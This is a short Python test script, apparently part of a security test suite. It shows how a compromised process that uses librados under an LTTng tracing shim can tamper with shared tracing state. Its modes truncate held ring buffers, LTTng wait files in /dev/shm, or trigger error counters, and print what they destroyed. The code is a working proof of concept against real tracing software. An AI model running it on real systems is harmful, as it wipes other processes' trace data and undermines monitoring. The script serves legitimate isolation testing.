# SPDX-License-Identifier: MIT
"""What a VM's process could do to its neighbours once its guest has taken it over; for neighbours.sh. A client of the fake librados
under the shim, which records, and then attacks. usage: neighbours.py ring|wait|counter|live

ring: truncates the ring buffers that it holds. wait: truncates LTTng's wait files. counter:
truncates the error counters of LTTng's triggers. live: no attack, for sixty seconds it opens a client after the other, each of which is
recorded. The attacker prints what it could truncate."""
import ctypes
import glob
import os
import sys
import time

ctypes.CDLL("librados.so.2")
rados = ctypes.CDLL(None)


def client():
    cluster = ctypes.c_void_p()
    assert rados.rados_create(ctypes.byref(cluster), None) == 0
    rados.rados_connect(cluster)
    rados.rados_shutdown(cluster)


def truncate(path):
    try:
        fd = os.open(path, os.O_RDWR)
        os.ftruncate(fd, 0)
        os.close(fd)
        print("truncated", path, flush=True)
    except OSError:
        pass


def held(words):
    """What this process has open: descriptors and names."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            name = os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if any(word in name for word in words):
            found.append((int(fd), name))
    return found


def truncate_held(words):
    for fd, name in held(words):
        try:
            os.ftruncate(fd, 0)
            print("truncated", name, flush=True)
        except OSError:
            pass


RING = ["ust-consumer", "ust-shm-consumer", "shm-ust"]  # 2.13 and later, 2.12
client()
for _ in range(100):  # until its buffers are there
    if held(RING):
        break
    time.sleep(0.1)
time.sleep(3)  # and what the neighbour did has been written
what = sys.argv[1]
if what == "live":
    for i in range(600):
        client()
        open(sys.argv[2], "w").write(str(i))
        time.sleep(0.1)
elif what == "ring":
    truncate_held(RING)
elif what == "wait":
    for path in glob.glob("/dev/shm/lttng-ust-wait-*"):
        truncate(path)
elif what == "counter":
    truncate_held(["error-accounting"])
    for path in glob.glob("/dev/shm/*error-accounting*"):
        truncate(path)
print("attacked", flush=True)
